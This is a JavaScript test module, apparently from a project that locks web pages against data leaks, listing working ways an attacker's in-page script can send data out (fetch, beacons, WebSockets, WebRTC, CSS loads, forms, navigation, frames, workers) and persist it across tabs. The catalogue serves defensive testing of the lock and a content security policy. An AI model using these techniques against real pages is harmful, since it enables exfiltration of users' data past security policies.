// Every way out that we could think of. Each `run` is code of an attacker in the page; it gets `to`, an address that is
// heard, or `port`. Each is tried on three pages: without any policy, where it must get out, or it shows nothing; with the
// policy of the lock alone; and in the locked app. `held` says what stops it:
//   policy  the browser, by the policy: it gets out of the first page only
//   code    the code of public/lock.js, for no policy governs it: it gets out of the first and the second page
//   nothing it gets out of all three: docs/privacy.md says so
// `at`: here (the page's own server), there (another one), or both. `udp`: a port of its own.
// `before`: what the attacker did before the page was locked.
// `alone`: it may take the page away. `only`: the browser that has this at all. `held` may differ: { chromium, firefox }.
/* eslint-env browser */

const tag = (name, attributes, parent = 'body') => ({ name, attributes, parent });

/** An element with these attributes, put into the page; `TO` is the address. */
const element = (name, attributes, more = {}) => ({
  run: ({ to, name, attributes, parent }) => {
    const element = name.startsWith('svg:') ? document.createElementNS('http://www.w3.org/2000/svg', name.slice(4)) : document.createElement(name);
    for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value.replace('TO', to));
    if (parent.startsWith('svg')) {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      svg.append(element);
      document.body.append(svg);
    } else document.querySelector(parent).append(element);
  },
  with: tag(name, attributes, more.parent),
  ...more,
});

/** A link with these attributes, pressed by script. */
const link = (attributes, how, more = {}) => ({
  run: ({ to, attributes, how }) => {
    const svg = how === 'svg';
    const link = svg ? document.createElementNS('http://www.w3.org/2000/svg', 'a') : document.createElement('a');
    for (const [attribute, value] of Object.entries(attributes)) link.setAttribute(attribute, value.replace('TO', to));
    if (how === 'inner') {
      link.append(document.createElement('b'));
      document.body.append(link);
      link.firstChild.click();
      return;
    }
    if (how !== 'detached') (svg ? document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg')) : document.body).append(link);
    if (how === 'dispatch' || svg) link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true }));
    else link.click();
  },
  with: { attributes, how },
  alone: true,
  held: 'code',
  ...more,
});

/** A style sheet made by script, which no policy forbids as such; what it loads is what counts. */
const css = (rules, more = {}) => ({
  run: ({ to, rules }) => {
    const id = `it${to.replace(/\W/g, '')}`;
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(rules.replaceAll('TO', to).replaceAll('#it', `#${id}`));
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    const it = document.createElement('p');
    it.id = id;
    it.textContent = 'x';
    document.body.append(it);
  },
  with: { rules },
  ...more,
});

/** A form that is sent. */
const form = (attributes, how = 'submit', more = {}) => ({
  run: ({ to, attributes, how }) => {
    const form = document.createElement('form');
    form.noValidate = true;
    for (const [attribute, value] of Object.entries(attributes)) form.setAttribute(attribute, value.replace('TO', to));
    const field = document.createElement('input');
    field.name = 'answer';
    const button = document.createElement('button');
    if (how === 'formaction') button.setAttribute('formaction', to);
    form.append(field, button);
    document.body.append(form);
    if (how === 'submit') form.submit();
    else if (how === 'requestSubmit') form.requestSubmit();
    else button.click();
  },
  with: { attributes, how },
  alone: true,
  ...more,
});

const UDP = { udp: true, at: 'port' };
const ALONE = { alone: true, held: 'code' };

export const ATTACKS = {
  // Requests.
  'fetch': { run: ({ to }) => { fetch(to).catch(() => {}); } },
  'fetch post': { run: ({ to }) => { fetch(to, { method: 'POST', mode: 'no-cors', body: 'answer' }).catch(() => {}); } },
  'fetch keepalive': { run: ({ to }) => { fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'answer' }).catch(() => {}); } },
  'fetchLater': { run: ({ to }) => { fetchLater(to, { activateAfter: 0 }); }, only: 'chromium' },
  'XMLHttpRequest': { run: ({ to }) => { const x = new XMLHttpRequest(); x.open('GET', to); x.send(); } },
  'XMLHttpRequest at once': { run: ({ to }) => { const x = new XMLHttpRequest(); x.open('GET', to, false); x.send(); } },
  'sendBeacon': { run: ({ to }) => { navigator.sendBeacon(to, 'answer'); } },
  'EventSource': { run: ({ to }) => { window.kept = new EventSource(`${to}events`); } },
  'WebSocket': { run: ({ to }) => { window.kept2 = new WebSocket(to.replace('http', 'ws')); } },
  'WebTransport': { run: ({ port }) => { window.kept3 = new WebTransport(`https://127.0.0.1:${port}/`); window.kept3.ready.catch(() => {}); }, ...UDP },
  'WebRTC': {
    run: async ({ port }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      window.kept4 = peer;
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
    }, ...UDP, held: 'code',
  },

  // Pictures.
  'image': { run: ({ to }) => { new Image().src = to; } },
  'image in the page': element('img', { src: 'TO' }),
  'srcset': element('img', { srcset: 'TO 1x' }),
  'picture': { run: ({ to }) => { const picture = document.createElement('picture'); const source = document.createElement('source'); source.srcset = to; picture.append(source, document.createElement('img')); document.body.append(picture); } },
  'svg image': element('svg:image', { href: 'TO' }, { parent: 'svg' }),
  'svg use': element('svg:use', { href: 'TOsvg#a' }, { parent: 'svg', at: 'here' }),
  'svg feImage': {
    run: ({ to }) => {
      const make = (name, parent, attributes) => { const e = document.createElementNS('http://www.w3.org/2000/svg', name); for (const [a, v] of Object.entries(attributes)) e.setAttribute(a, v); parent.append(e); return e; };
      const svg = make('svg', document.body, {});
      make('feImage', make('filter', svg, { id: 'f' }), { href: to });
      make('rect', svg, { width: 9, height: 9, filter: 'url(#f)' });
    },
  },
  'button of an image': element('input', { type: 'image', src: 'TO' }),
  'poster': element('video', { poster: 'TO' }),
  'background': css('#it { background: url(TO) }'),
  'background by image-set': css('#it { background: image-set(url(TO) 1x) }'),
  'border image': css('#it { border: 9px solid; border-image: url(TO) 1 }'),
  'list style': css('#it { display: list-item; list-style-image: url(TO) }'),
  'content': css('#it::before { content: url(TO) }'),
  'mask': css('#it { mask-image: url(TO) }'),
  'filter': css('#it { filter: url(TOsvg#a) }', { at: 'here' }),
  'cursor': { run: ({ to }) => { const sheet = new CSSStyleSheet(); sheet.replaceSync(`html { cursor: url(${to}), auto }`); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]; } },
  'style attribute': { run: ({ to }) => { document.body.setAttribute('style', `background: url(${to})`); } },
  'style by script': { run: ({ to }) => { document.documentElement.style.backgroundImage = `url(${to})`; } },
  'favicon': element('link', { rel: 'icon', href: 'TO' }, { parent: 'head', only: 'chromium' }),

  // Fonts, styles, media.
  'FontFace': { run: ({ to }) => { new FontFace('a', `url(${to})`).load().catch(() => {}); } },
  'font-face': css('@font-face { font-family: "TO"; src: url(TO) } #it { font-family: "TO" }'),
  'style sheet': element('link', { rel: 'stylesheet', href: 'TOstyle' }, { parent: 'head' }),
  'import in a style': { run: ({ to }) => { const style = document.createElement('style'); style.textContent = `@import url(${to}style);`; document.head.append(style); } },
  'audio': element('audio', { src: 'TO', preload: 'auto' }),
  'video': element('video', { src: 'TO', preload: 'auto' }),
  'track': { run: ({ to }) => { const video = document.createElement('video'); video.crossOrigin = 'anonymous'; const track = document.createElement('track'); track.src = to; track.default = true; track.kind = 'subtitles'; video.append(track); document.body.append(video); track.track.mode = 'showing'; } },

  // Scripts and workers.
  'script': element('script', { src: 'TOscript' }),
  'module': element('script', { type: 'module', src: 'TOscript' }),
  'dynamic import': { run: ({ to }) => { const script = document.createElement('script'); script.textContent = `import('${to}script').catch(() => {})`; document.body.append(script); } },
  'import map': {
    only: 'chromium', // one that comes after a module; Firefox takes only one, and first
    run: ({ to }) => {
      const add = (type, text) => { const script = document.createElement('script'); script.type = type; script.textContent = text; document.body.append(script); };
      add('importmap', JSON.stringify({ imports: { [to.replace(/\W/g, '')]: `${to}script` } }));
      add('module', `import '${to.replace(/\W/g, '')}'`);
    },
  },
  'worker': { run: ({ to }) => { window.kept5 = new Worker(`${to}script`); }, at: 'here' },
  'worker from memory': { run: ({ to }) => { window.kept6 = new Worker(URL.createObjectURL(new Blob([`fetch('${to}')`]))); } },
  'shared worker': { run: ({ to }) => { window.kept7 = new SharedWorker(`${to}script`); }, at: 'here' },
  'worklet': { run: ({ to }) => { window.kept8 = new OfflineAudioContext(1, 1, 8000); window.kept8.audioWorklet.addModule(`${to}script`).catch(() => {}); } },
  'service worker': { run: ({ to }) => { navigator.serviceWorker.register(`${to}script`, { scope: `/${Math.random()}/` }).catch(() => {}); }, at: 'here' },
  'message to the worker': { run: ({ to }) => { navigator.serviceWorker.ready.then(({ active }) => active.postMessage(to)); }, held: 'code' },

  // What is fetched ahead.
  'prefetch': element('link', { rel: 'prefetch', href: 'TO' }, { parent: 'head' }),
  'preload': element('link', { rel: 'preload', as: 'fetch', crossorigin: '', href: 'TO' }, { parent: 'head' }),
  'preload of an image': element('link', { rel: 'preload', as: 'image', href: 'TO' }, { parent: 'head' }),
  'modulepreload': element('link', { rel: 'modulepreload', href: 'TOscript' }, { parent: 'head' }),
  'speculation rules': {
    run: ({ to }) => { const script = document.createElement('script'); script.type = 'speculationrules'; script.textContent = JSON.stringify({ prefetch: [{ urls: [to], eagerness: 'immediate' }] }); document.head.append(script); },
    only: 'chromium', at: 'here',
  },

  // Windows within the page.
  'frame': element('iframe', { src: 'TO' }),
  'frame of a text': element('iframe', { srcdoc: '<img src=TO>' }),
  'frame of data': element('iframe', { src: 'data:text/html,<img src=TO>' }),
  'frame from memory': { run: ({ to }) => { const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob([`<img src=${to}>`], { type: 'text/html' })); document.body.append(frame); } },
  'fetch of an empty frame': { run: ({ to }) => { const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.fetch(to).catch(() => {}); } },
  'image of an empty frame': { run: ({ to }) => { const frame = document.createElement('iframe'); document.body.append(frame); new frame.contentWindow.Image().src = to; } },
  'WebRTC of an empty frame': {
    run: async ({ port }) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const peer = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      window.kept9 = peer;
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
    }, ...UDP, held: 'code',
  },
  'fetch of a frame made before': {
    before: () => { const frame = document.createElement('iframe'); document.body.append(frame); window.before = frame.contentWindow; },
    run: ({ to }) => { window.before.fetch(to).catch(() => {}); }, held: 'code',
  },
  'WebRTC put aside before': {
    before: () => { window.aside = RTCPeerConnection; },
    run: async ({ port }) => {
      const peer = new window.aside({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
      window.kept10 = peer;
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
    }, ...UDP, held: 'nothing',
  },
  'object': element('object', { data: 'TO' }),
  'embed': element('embed', { src: 'TO' }),

  // Forms.
  'form': form({ action: 'TO' }),
  'form post': form({ action: 'TO', method: 'post' }),
  'form by its button': form({ action: 'TO' }, 'click'),
  'form by formaction': form({}, 'formaction'),
  'form into a new tab': form({ action: 'TO', target: '_blank' }, 'requestSubmit'),

  // Links, pressed by script.
  'ping': link({ href: '#', ping: 'TO' }, 'click', { held: 'policy', only: 'chromium' }),
  'link': link({ href: 'TO' }, 'click'),
  'link from within': link({ href: 'TO' }, 'inner'),
  'link by an event': link({ href: 'TO' }, 'dispatch'),
  'link outside the page': link({ href: 'TO' }, 'detached'),
  'link of a picture': link({ href: 'TO' }, 'svg'),
  'link to a new tab': link({ href: 'TO', target: '_blank', rel: 'noopener' }, 'click'),
  'link to a new tab outside the page': link({ href: 'TO', target: '_blank' }, 'detached'),
  'link to a new tab of a picture': link({ href: 'TO', target: '_blank' }, 'svg'),
  'download': link({ href: 'TO', download: 'x' }, 'click'),
  'download outside the page': link({ href: 'TO', download: 'x' }, 'detached'),

  // Other pages.
  'window.open': { run: ({ to }) => { window.open(to); }, ...ALONE },
  'window.open into itself': { run: ({ to }) => { window.open(to, '_self'); }, ...ALONE },
  'document.open': { run: ({ to }) => { document.open(to, '', ''); }, ...ALONE },
  'location': { run: ({ to }) => { location = to; }, ...ALONE },
  'location.replace': { run: ({ to }) => { location.replace(to); }, ...ALONE },
  'location.search': { run: ({ to }) => { location.search = to; }, ...ALONE, at: 'here' },
  'navigation.navigate': { run: ({ to }) => { const { committed, finished } = navigation.navigate(to); committed.catch(() => {}); finished.catch(() => {}); }, ...ALONE },
  'refresh': { ...element('meta', { 'http-equiv': 'refresh', content: '0;url=TO' }, { parent: 'head' }), ...ALONE },
  'refresh by a copied element': {
    run: ({ to }) => { const meta = document.querySelector('meta').cloneNode(); meta.setAttribute('http-equiv', 'refresh'); meta.setAttribute('content', `0;url=${to}`); document.head.append(meta); }, ...ALONE,
  },
  'address and loading again': { run: ({ to }) => { history.replaceState(null, '', to); location.reload(); }, ...ALONE, at: 'here' },
  'base': { run: ({ to }) => { const base = document.createElement('base'); base.href = `${to}/`; document.head.prepend(base); new Image().src = 'x'; }, alone: true },
};

/**
 * What is kept for the next visit or for another tab, where nothing is locked: `run` writes, `read` looks from an unlocked
 * page of the same address: another tab (which may `prepare`), or the same one loaded again.
 */
export const KEPT = {
  'localStorage': { run: (word) => { localStorage.word = word; }, read: () => localStorage.word },
  'sessionStorage': { run: (word) => { sessionStorage.word = word; }, read: () => sessionStorage.word, same: true },
  'cookie': { run: (word) => { document.cookie = `word=${word}; path=/`; }, read: () => document.cookie },
  'cookieStore': { run: (word) => cookieStore.set('other', word), read: () => document.cookie },
  'IndexedDB': {
    run: (word) => new Promise((done, failed) => { const asked = indexedDB.open(word); asked.onsuccess = () => { asked.result.close(); done(); }; asked.onerror = failed; }),
    read: async () => (await indexedDB.databases()).map(({ name }) => name).join(),
  },
  'caches': { run: (word) => caches.open(word), read: async () => (await caches.keys()).join() },
  'private files': {
    run: async (word) => { await (await navigator.storage.getDirectory()).getFileHandle(word, { create: true }); },
    read: async () => { const names = []; for await (const name of (await navigator.storage.getDirectory()).keys()) names.push(name); return names.join(); },
  },
  'BroadcastChannel': {
    prepare: () => { window.channel = new BroadcastChannel('x'); window.channel.onmessage = ({ data }) => { window.word = data; }; },
    run: (word) => { new BroadcastChannel('x').postMessage(word); },
    read: () => window.word,
  },
  'window.name': { run: (word) => { window.name = word; }, read: () => window.name, same: true },
  'address': { run: (word) => { location.hash = word; }, read: () => location.hash, same: true },
  'address by the history': { run: (word) => { history.replaceState(null, '', `#${word}`); }, read: () => location.hash, same: true },
  'state of the navigation': { run: (word) => { navigation.updateCurrentEntry({ state: word }); }, read: () => navigation.currentEntry.getState(), same: true },
  'state of the history': { run: (word) => { history.replaceState({ word }, ''); }, read: () => JSON.stringify(history.state), same: true },
};
